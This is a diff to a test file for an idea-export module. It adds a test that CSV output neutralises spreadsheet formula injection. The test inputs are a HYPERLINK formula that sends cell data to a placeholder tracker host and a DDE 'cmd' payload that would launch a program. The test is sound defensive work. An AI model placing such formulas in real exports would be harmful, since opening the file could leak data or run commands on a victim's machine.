@@ -1,7 +1,14 @@
 // @vitest-environment jsdom
 // jsdom for DOMParser: the HTML export is proven safe by parsing it as a browser would.
 import Papa from 'papaparse';
-import { buildIdeaExport, IDEA_CSV_COLUMNS, ideasToCsv, ideasToHtml, ideasToMarkdown, type ExportIdea } from './idea-export';
+import {
+  buildIdeaExport,
+  IDEA_CSV_COLUMNS,
+  ideasToCsv,
+  ideasToHtml,
+  ideasToMarkdown,
+  type ExportIdea,
+} from './idea-export';
 import { escapeMarkdown } from './text-escape';
 
 const idea = (overrides: Partial<ExportIdea> = {}): ExportIdea => ({
@@ -45,6 +52,23 @@ describe('ideasToCsv', () => {
     expect(row.rank).toBe('7');
     expect(row.title).toBe(`'=HYPERLINK("x")`);
   });
+
+  it('defuses a formula followed by more lines in any text cell', () => {
+    const title = '=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nSoil';
+    const summary = "-2+3+cmd|' /C calc'!A0\nLine two";
+    const [row] = Papa.parse<Record<string, string>>(ideasToCsv([idea({ title, summary, status: '@x\ny' })]), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    expect(row).toMatchObject({ title: `'${title}`, summary: `'${summary}`, status: `'@x\ny` });
+  });
+
+  it('writes the scores as numbers, so a negative one stays a number', () => {
+    const csv = ideasToCsv([idea({ noveltyScore: -0.25, correctnessScore: 0.5 })]);
+    const [row] = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
+    expect(row).toMatchObject({ noveltyScore: '-0.25', correctnessScore: '0.5', feasibilityScore: '0.2' });
+    expect(csv).not.toContain("'-");
+  });
 });
 
 describe('ideasToHtml', () => {
@@ -59,7 +83,10 @@ describe('ideasToHtml', () => {
   });
 
   it('has a header row and one row per idea', () => {
-    const doc = new DOMParser().parseFromString(ideasToHtml([idea(), idea({ id: 'b', title: 'Second' })], 'Ideas', NOW), 'text/html');
+    const doc = new DOMParser().parseFromString(
+      ideasToHtml([idea(), idea({ id: 'b', title: 'Second' })], 'Ideas', NOW),
+      'text/html',
+    );
     expect([...doc.querySelectorAll('thead th')].map((th) => th.textContent)).toContain('Feasibility label');
     expect(doc.querySelectorAll('tbody tr')).toHaveLength(2);
   });
